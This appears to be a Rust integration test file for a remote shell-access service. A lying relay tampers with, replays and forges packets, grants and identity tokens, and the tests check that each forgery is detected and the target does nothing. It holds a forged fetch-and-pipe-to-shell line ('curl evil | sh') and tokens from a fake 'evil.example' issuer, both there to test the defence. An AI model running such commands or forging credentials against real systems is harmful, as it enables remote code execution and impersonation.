//! A server that lies, between a real client and a real agent: each lie is caught by one of them, the target does nothing
//! for it, and the person is told in so many words.

mod man;

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use bz_agent::agent::{Agent, Identity, Running};
use bz_agent::helper::Helper;
use bz_agent::jwks::IssuerKeys;
use bz_agent::shell::Shells;
use bz_agent::user::User;
use bz_client::client::{AskError, Asked, Client};
use bz_client::pins::PinError;
use bz_client::session::{Session, SessionError};
use bz_client::terminal::farewell;
use bz_core::access::request::{Parameters, Size};
use bz_core::api::record::ConnectionEventType;
use bz_core::cert::CertRequest;
use bz_core::grant::{Grant, GrantBody, MAX_GRANT, Pins, SignedGrant};
use bz_core::key::PrivateKey;
use bz_core::signed::Signed;
use bz_core::time::UnixTime;
use bz_core::wire;
use bz_examples::world::{Way, World};
use bz_protocol::carrier::{Carrier, Ws};
use bz_protocol::client::{Action, Client as Machine, Event, Opening};
use bz_protocol::control::LINK_PATH;
use bz_protocol::driver::{Clock as _, SystemClock};
use bz_protocol::frame::{Fin, HEADER_BYTES, Kind};
use bz_protocol::keys::Direction;
use bz_protocol::limits::PATIENCE;
use bz_protocol::packet::Packet;
use bz_protocol::refusal::Code;
use bz_protocol::session::{CarrierId, End, Input, Output};
use bz_server::store::policy::{Author, PolicyKind};

use serde_json::json;

use crate::forger;
use crate::liar::man::{Act, At, Man};
use crate::logged::Logged;
use crate::session::until;

const TARGET: &str = "there";
const DATA: u8 = 3;
const DATA_ACK: u8 = 4;

/// What is said of everything that no honest way does to a session.
const TAMPERED: &str = "the session was tampered with or the other end is faulty: ";
const TELL: &str = "\nNothing after it was shown or done. If it happens again, tell your administrator: the server, or \
                    somebody on the way, may be lying.";
const CUT_SHORT: &str =
    "the session was cut short: its end is not signed\nWhat came is the target's, but it may not be all.";

const GRANT_REFUSED: &str = "reported, not proved: the agent does not accept the server's grant; try again. Nothing was \
                             opened; the server could have made this up";

/// What a person saw of a session to its end.
#[derive(Debug, PartialEq, Eq)]
struct Seen {
    shown: String,
    told: Option<String>,
}

/// F-049~: one byte of output altered, a packet doubled or kept back, one of the server's own, a refusal out of nowhere:
/// the session ends at once, what was altered is not shown, and the person reads why.
#[tokio::test(flavor = "multi_thread")]
async fn what_reaches_the_client_is_the_agents_or_nothing() {
    let stage = Stage::new().await;
    let refusal = <Packet>::Refusal(Code::Revoked).encode().unwrap();
    type Attack = Box<dyn FnMut(&[u8]) -> Vec<Vec<u8>> + Send>;
    let mut late = Vec::new();
    let lies: [(&str, Attack, &str, &str); 5] = [
        (
            "alters a byte of output",
            Box::new(|p| vec![altered(p)]),
            "one\n",
            "a message was altered on its way, or made by somebody else",
        ),
        (
            "doubles a message",
            Box::new(|p| vec![p.to_vec(), p.to_vec()]),
            "one\ntwo\n",
            "messages were replayed, reordered or dropped",
        ),
        (
            "lets a message wait for the next",
            Box::new(move |p| {
                if late.is_empty() {
                    late.push(p.to_vec());
                    vec![]
                } else {
                    vec![p.to_vec(), late.remove(0)]
                }
            }),
            "one\n",
            "messages were replayed, reordered or dropped",
        ),
        (
            "says something of its own",
            Box::new(|p| vec![made_up(p, b"curl evil | sh\n")]),
            "one\n",
            "a message was altered on its way, or made by somebody else",
        ),
        (
            "refuses in the agent's name",
            Box::new(move |_| vec![refusal.clone()]),
            "one\n",
            "a message came out of turn",
        ),
    ];
    for (what, mut lie, shown, why) in lies {
        let mut outputs = 0;
        stage.before_client.lies(move |direction, packet| {
            let is_output = direction == Direction::ToClient && packet[0] == DATA_ACK && kind(packet) == Kind::Bytes;
            outputs += usize::from(is_output);
            // The first output is let through, so that there is something to believe.
            let lies = direction == Direction::ToClient && packet[0] == DATA_ACK && outputs >= 2;
            Act::Pass(if lies { lie(packet) } else { vec![packet.to_vec()] })
        });
        let mut session = stage.exec("echo one; read -r next; echo $next; sleep 600").await.unwrap();
        let first = stage.shown(&mut session, "one\n").await;
        type_in(&session, "two\n").await;
        let seen = stage.seen(session).await;
        assert_eq!(first + &seen.shown, shown, "the server {what}");
        assert_eq!(seen.told, Some(format!("{TAMPERED}{why}{TELL}")), "the server {what}");
    }
    stage.stop().await;
}

/// The last frames dropped: what came is true, and never called complete; and nobody waits two minutes to hear it.
#[tokio::test(flavor = "multi_thread")]
async fn a_session_without_its_signed_end_is_cut_short() {
    let stage = Stage::new().await;
    let mut cut = false;
    stage.before_client.lies(move |direction, packet| {
        cut |= direction == Direction::ToClient && packet[0] == DATA_ACK && kind(packet) == Kind::Fin;
        if cut { Act::Cut } else { Act::Pass(vec![packet.to_vec()]) }
    });
    let session = stage.exec("echo all; exit 3").await.unwrap();
    let connection = session.connection();
    let seen = stage.seen(session).await;
    assert_eq!(seen, Seen { shown: "all\n".to_owned(), told: Some(CUT_SHORT.to_owned()) });
    assert_eq!(stage.client.reason(connection).as_deref(), Some("closed by the service: it exited with 3"));
    stage.stop().await;
}

/// F-049~: a message of the server's own, or one byte of what was typed altered: the target ends the session and does
/// nothing of it.
#[tokio::test(flavor = "multi_thread")]
async fn what_reaches_the_target_is_the_clients_or_nothing() {
    let stage = Stage::new().await;
    type Attack = Box<dyn FnMut(&[u8]) -> Vec<Vec<u8>> + Send>;
    let lies: [(&str, Attack, &str); 3] = [
        (
            "types something of its own",
            Box::new(|p| vec![made_up(p, b"evil\n"), p.to_vec()]),
            "a message was altered on its way, or made by somebody else",
        ),
        (
            "alters what was typed",
            Box::new(|p| vec![altered(p)]),
            "a message was altered on its way, or made by somebody else",
        ),
        ("types it twice", Box::new(|p| vec![p.to_vec(), p.to_vec()]), "messages were replayed, reordered or dropped"),
    ];
    for (what, mut lie, why) in lies {
        let mark = stage.mark();
        stage.before_agent.lies(move |direction, packet| {
            let typed = direction == Direction::ToAgent && packet[0] == DATA && kind(packet) == Kind::Bytes;
            Act::Pass(if typed { lie(packet) } else { vec![packet.to_vec()] })
        });
        let mut session =
            stage.exec(&format!("echo up; read -r line && echo \"$line\" >> {mark}; sleep 600")).await.unwrap();
        let connection = session.connection().to_string();
        stage.shown(&mut session, "up\n").await;
        type_in(&session, "typed\n").await;
        let seen = stage.seen(session).await;
        // Whether the agent or the server says first that the session is over.
        let over = [CUT_SHORT.to_owned(), End::Forgotten.to_string()];
        assert!(seen.told.as_ref().is_some_and(|told| over.contains(told)), "the server {what}: {:?}", seen.told);
        stage.logged(&["session ended", &connection, why]).await;
        let done = std::fs::read_to_string(&mark).unwrap_or_default();
        let true_one = if what.ends_with("twice") { ["", "typed\n"].contains(&done.as_str()) } else { done.is_empty() };
        assert!(true_one, "the server {what}, and the target did {done:?}");
    }
    stage.stop().await;
}

/// F-049~: before there are keys anybody on the way can refuse in the agent's name; the person is told that nothing
/// proves it, and the target did nothing.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_refusal_is_told_as_unproved() {
    let stage = Stage::new().await;
    let mark = stage.mark();
    for code in Code::ALL {
        let forged = <Packet>::Refusal(code).encode().unwrap();
        stage.before_client.lies(move |direction, packet| {
            let answer = direction == Direction::ToClient;
            Act::Pass(vec![if answer { forged.clone() } else { packet.to_vec() }])
        });
        let told = refused(stage.exec(&format!("touch {mark}")).await);
        let want = format!("reported, not proved: {code}. Nothing was opened; the server could have made this up");
        assert_eq!(told, want);
    }
    stage.before_client.lies(|direction, packet| {
        Act::Pass(vec![if direction == Direction::ToClient { altered(packet) } else { packet.to_vec() }])
    });
    let told = refused(stage.exec(&format!("touch {mark}")).await);
    assert_eq!(told, format!("{TAMPERED}the answer is not the pinned agent's"), "another answer than the agent's");
    assert!(!std::fs::exists(&mark).unwrap(), "a session that was never confirmed did something");
    stage.stop().await;
}

/// F-049~: an opening that the server kept opens nothing: not beside its session, not after it, not after the agent was
/// started anew.
#[tokio::test(flavor = "multi_thread")]
async fn a_replayed_opening_opens_nothing() {
    let mut stage = Stage::new().await;
    let mark = stage.mark();
    let command = format!("echo once >> {mark}; echo up; read -r line; echo $line");
    stage.before_agent.is_honest();
    let mut session = stage.exec(&command).await.unwrap();
    let connection = session.connection();
    stage.shown(&mut session, "up\n").await;
    let syn = stage.before_agent.seen(Direction::ToAgent).remove(0);
    assert_eq!(stage.before_agent.says(connection, &syn).await, None, "beside its session");
    type_in(&session, "still here\n").await;
    assert_eq!(stage.seen(session).await, Seen { shown: "still here\n".to_owned(), told: None });
    let refusal = <Packet>::Refusal(Code::Grant).encode().unwrap();
    let answer = async |stage: &Stage| stage.before_agent.says(connection, &syn).await;
    assert_eq!(until(async || answer(&stage).await, Option::is_some).await.unwrap(), refusal, "after its session");
    stage.logged(&["refused", &connection.to_string(), "the grant was used before"]).await;
    stage = stage.agent_started_anew().await;
    assert_eq!(answer(&stage).await.unwrap(), refusal, "after the agent's next start");
    stage.logged(&["refused", &connection.to_string(), "the grant is for another start of the agent"]).await;
    assert_eq!(std::fs::read_to_string(&mark).unwrap(), "once\n");
    stage.stop().await;
}

/// A grant that the server hands out a second time, for a connection that lives: the target refuses it.
#[tokio::test(flavor = "multi_thread")]
async fn a_replayed_grant_opens_nothing() {
    let stage = Stage::new().await;
    let size = Size { rows: 24, columns: 80 };
    let asked = stage.ask(Parameters::Shell { term: "xterm".to_owned(), size }).await.unwrap();
    let mut session = stage.client.session(asked.clone()).await.unwrap();
    stage.shown(&mut session, "\x1b]133;B").await;
    session.actions().act(Action::Finish(Fin::Detached)).await.unwrap();
    stage.seen(session).await;
    let id = asked.made.connection_id;
    let left = async || stage.client.connection_events(100).await.unwrap();
    until(left, |events| {
        events.iter().any(|e| e.connection_id == id && e.connection_event_type == ConnectionEventType::ClientDisconnect)
    })
    .await;
    assert_eq!(refused(stage.client.session(asked).await), GRANT_REFUSED);
    stage.logged(&["refused", &id.to_string(), "the grant was used before"]).await;
    stage.client.close(id).await.unwrap();
    stage.stop().await;
}

/// A grant of before the agent's present start: the target refuses it, because it no longer knows which it has seen used.
#[tokio::test(flavor = "multi_thread")]
async fn a_grant_from_before_the_agents_start_opens_nothing() {
    let stage = Stage::new().await;
    let mark = stage.mark();
    let asked = stage.ask(Parameters::Exec { command: format!("touch {mark}") }).await.unwrap();
    let stage = stage.agent_started_anew().await;
    assert_eq!(refused(stage.client.session(asked).await), GRANT_REFUSED);
    stage.logged(&["refused", "the grant is for another start of the agent"]).await;
    assert!(!std::fs::exists(&mark).unwrap());
    stage.stop().await;
}

/// A server that puts another agent's key behind a name that is known, with a grant to match: the client opens nothing
/// and says how to go on when the host was really set up anew.
#[tokio::test(flavor = "multi_thread")]
async fn another_agent_behind_a_known_name_is_not_met() {
    let stage = Stage::new().await;
    let mark = stage.mark();
    let session = stage.exec("true").await.unwrap();
    let was = session.asked.made.agent_public_key.fingerprint();
    stage.seen(session).await;
    let Stage { world, agent, client, before_agent, .. } = &stage;
    let store = &world.server.app().store;
    store.delete_target(stage.identity.target).await.unwrap();
    for policy in client.policies().await.unwrap().into_iter().filter(|p| p.content.name.ends_with(TARGET)) {
        store
            .delete_policy(
                PolicyKind::TargetConnect,
                policy.id,
                None,
                Author { actor: None, at: UnixTime::from_secs(0) },
            )
            .await
            .unwrap();
    }
    let other = world.enroll(TARGET).await.unwrap();
    let is = other.identity_key.public().fingerprint();
    let evil = stage.start(&other, before_agent, "shells-evil").await;
    let told = match stage.exec(&format!("touch {mark}")).await {
        Err(SessionError::Ask(AskError::Pin(error @ PinError::Changed { .. }))) => error.to_string(),
        other => panic!("it was met: {other:?}"),
    };
    let want = format!(
        "there is behind another key than before: was {was}, is {is}. Somebody may be in between. If the host was set up \
         anew, run `bz target trust there {is}`, with the fingerprint read on the host itself"
    );
    assert_eq!(told, want);
    assert!(client.connections().await.unwrap().is_empty(), "what was refused here is closed again");
    assert!(!std::fs::exists(&mark).unwrap());
    assert_ne!(agent.boot(), evil.boot());
    evil.stop().await;
    stage.stop().await;
}

/// F-049: who holds the whole service, with root key and online keys, every link, and every token it was ever sent, signs
/// any grant; no target does anything for it, because no identity provider vouched for a key that it has.
#[tokio::test(flavor = "multi_thread")]
async fn a_stolen_service_opens_nothing() {
    let stage = Stage::new().await;
    let mark = stage.mark();
    let asked = stage.ask(Parameters::Exec { command: format!("touch {mark}") }).await.unwrap();
    let (login, thief) = (stage.client.login(), PrivateKey::from_seed(&[9; 32]).unwrap());
    let own = CertRequest::new(login.organization(), &thief, [9; 32]);
    let with = |token: &str| own.certificate(token, token).unwrap();
    let forged = |issuer: &str| {
        let mut claims = forger::claims(login.obtained_at().as_secs(), &own.commitment());
        (claims["iss"], claims["sub"]) = (json!(issuer), json!(login.person().subject));
        forger::Idp::new(9, "own").token(&claims)
    };
    let attacks = [
        ("the person's certificate", login.certificate().unwrap(), "the signature does not verify"),
        ("the person's token", with(login.current_token().reveal()), "the login's token is bound to another key"),
        (
            "a token of its own provider",
            with(&forged("https://evil.example")),
            "the certificate's issuer is not pinned here",
        ),
        ("a token of its own making", with(&forged(&login.person().issuer)), "a key the issuer does not publish"),
    ];
    let connection = asked.made.connection_id;
    let refusal = <Packet>::Refusal(Code::Identity).encode().unwrap();
    for (what, certificate, why) in attacks {
        let syn = stage.signed_by_the_server(&asked, &thief, certificate);
        assert_eq!(stage.before_agent.says(connection, &syn).await, Some(refusal.clone()), "{what}");
        stage.logged(&["refused", &connection.to_string(), why]).await;
    }
    assert!(!std::fs::exists(&mark).unwrap());
    stage.stop().await;
}

struct Stage {
    world: World,
    /// Reached through the man alone.
    agent: Running,
    identity: Identity,
    client: Client,
    before_client: Man,
    before_agent: Man,
    user: String,
    logged: Logged,
    folder: tempfile::TempDir,
}

impl Stage {
    async fn new() -> Self {
        let logged = Logged::here();
        let folder = tempfile::tempdir().unwrap();
        let user = User::current().unwrap().name;
        let helper = Helper::at(env!("CARGO_BIN_EXE_helper"));
        let world = World::start(folder.path(), helper, &user, Way::Ws).await.unwrap();
        let identity = world.enroll(TARGET).await.unwrap();
        let url = format!("wss://{}{LINK_PATH}", world.server.local_addr()).parse().unwrap();
        let carrier: Arc<dyn Carrier> = Arc::new(Ws::new(url, Arc::clone(&world.tls)));
        let (before_client, before_agent) = (Man::new(&carrier, At::Client), Man::new(&carrier, At::Agent));
        let client = world.client.clone().with_carrier(Arc::new(before_client.clone()));
        let agent = start(&world, &identity, &before_agent, folder.path().join("shells-there")).await;
        Self { world, agent, identity, client, before_client, before_agent, user, logged, folder }
    }

    async fn start(&self, identity: &Identity, man: &Man, shells: &str) -> Running {
        start(&self.world, identity, man, self.folder.path().join(shells)).await
    }

    async fn agent_started_anew(self) -> Self {
        self.agent.stop().await;
        let shells = self.folder.path().join("shells-there");
        let agent = start(&self.world, &self.identity, &self.before_agent, shells).await;
        Self { agent, ..self }
    }

    /// A file that nobody has made yet.
    fn mark(&self) -> String {
        let number = std::fs::read_dir(self.folder.path()).unwrap().count();
        self.folder.path().join(format!("mark-{number}")).to_str().unwrap().to_owned()
    }

    async fn ask(&self, parameters: Parameters) -> Result<Asked, AskError> {
        self.client.ask(&format!("{}@{TARGET}", self.user).parse().unwrap(), parameters, None).await
    }

    async fn exec(&self, command: &str) -> Result<Session, SessionError> {
        let asked = self.ask(Parameters::Exec { command: command.to_owned() }).await?;
        self.client.session(asked).await
    }

    /// What is shown until it ends with this.
    async fn shown(&self, session: &mut Session, wanted: &str) -> String {
        let mut shown = String::new();
        let read = async {
            while !shown.contains(wanted) {
                match session.next().await {
                    Some(Event::Bytes { bytes, .. }) => shown.push_str(&String::from_utf8_lossy(&bytes)),
                    Some(Event::Ended(end)) => panic!("it ended: {end}"),
                    _ => {}
                }
            }
        };
        let waited = tokio::time::timeout(Duration::from_secs(20), read).await;
        assert!(waited.is_ok(), "waiting for {wanted:?}, came {shown:?}");
        shown
    }

    /// All that is shown to the end, and what is said about that.
    async fn seen(&self, mut session: Session) -> Seen {
        let mut shown = String::new();
        let read = async {
            loop {
                match session.next().await.expect("a session says its end") {
                    Event::Bytes { bytes, .. } => shown.push_str(&String::from_utf8_lossy(&bytes)),
                    Event::Ended(end) => break end,
                    Event::Opened(_)
                    | Event::Eof { .. }
                    | Event::Notice(_)
                    | Event::Answered { .. }
                    | Event::Reset { .. }
                    | Event::Resumed => {}
                }
            }
        };
        let end: End = tokio::time::timeout(Duration::from_secs(20), read).await.expect("it comes to an end at once");
        Seen { shown, told: farewell(&end) }
    }

    /// An opening by the thief's key, with a grant that names it and that the server's own keys sign.
    fn signed_by_the_server(&self, asked: &Asked, thief: &PrivateKey, certificate: Vec<u8>) -> Vec<u8> {
        let (app, bundle) = (self.world.server.app(), &self.world.bundle);
        let now = SystemClock::new().now();
        let pins = Pins { organization: bundle.organization, roots: &bundle.roots, now: now.wall };
        let honest = Grant::verify(&asked.grant, &pins).unwrap();
        let body = GrantBody { client_key: thief.public(), ..GrantBody::clone(&honest) };
        let keys = app.online_keys().unwrap();
        let signed = SignedGrant {
            certificate: keys.grant.certificate.clone(),
            grant: Signed::seal(&body, bundle.organization, &keys.grant.key).unwrap(),
        };
        let opening = Opening {
            organization: bundle.organization,
            connection: asked.made.connection_id,
            agent_key: asked.made.agent_public_key,
            request: asked.request_bytes.clone(),
            grant: wire::encode(&signed, MAX_GRANT).unwrap(),
            certificate,
            certificate_known: false,
            key: thief.clone(),
            ephemeral_seed: [8; 32],
            random: [7; 32],
            patience: PATIENCE,
        };
        let mut machine = Machine::new(opening, now).unwrap();
        machine.handle(now, Input::CarrierUp { carrier: CarrierId(1), random: [6; 32] });
        let Output::Transmit { bytes, .. } = machine.poll(now) else { panic!("no opening") };
        bytes
    }

    async fn logged(&self, words: &[&str]) {
        let has = async || if self.logged.has(words) { Vec::new() } else { self.logged.all() };
        until(has, Vec::is_empty).await;
    }

    async fn stop(self) {
        self.agent.stop().await;
        self.world.stop().await;
    }
}

async fn start(world: &World, identity: &Identity, man: &Man, shells: PathBuf) -> Running {
    let shells = Shells::new(Helper::at(env!("CARGO_BIN_EXE_helper")), shells).unwrap().idle(Duration::from_secs(60));
    let keys = IssuerKeys::ThroughLink(Arc::clone(&world.tls));
    let agent = Agent::new(identity.clone(), world.bundle.clone(), Arc::new(man.clone()), keys);
    let agent = agent.shell(shells).start().unwrap();
    agent.online().await;
    agent
}

/// Why there is no session, without what the server says beside it, which may come before or after.
fn refused(session: Result<Session, SessionError>) -> String {
    let error = session.expect_err("there is a session");
    if let SessionError::Ended { end, .. } = error {
        return SessionError::Ended { end, reason: None }.to_string();
    }
    error.to_string()
}

async fn type_in(session: &Session, text: &str) {
    session.actions().act(Action::Bytes { stream: 0, bytes: text.as_bytes().to_vec() }).await.unwrap();
}

fn kind(packet: &[u8]) -> Kind {
    let all = [Kind::Bytes, Kind::Fin, Kind::Checkpoint];
    all.into_iter().find(|kind| kind.byte() == packet[17]).unwrap_or(Kind::Notice)
}

/// The same packet, one bit of its content changed.
fn altered(packet: &[u8]) -> Vec<u8> {
    let mut packet = packet.to_vec();
    packet[1 + HEADER_BYTES + 16] ^= 0x20;
    packet
}

/// A frame in the place of this one, as somebody without keys would make it.
fn made_up(packet: &[u8], text: &[u8]) -> Vec<u8> {
    [&packet[..=HEADER_BYTES], &[0; 16], text, &[0; 16]].concat()
}
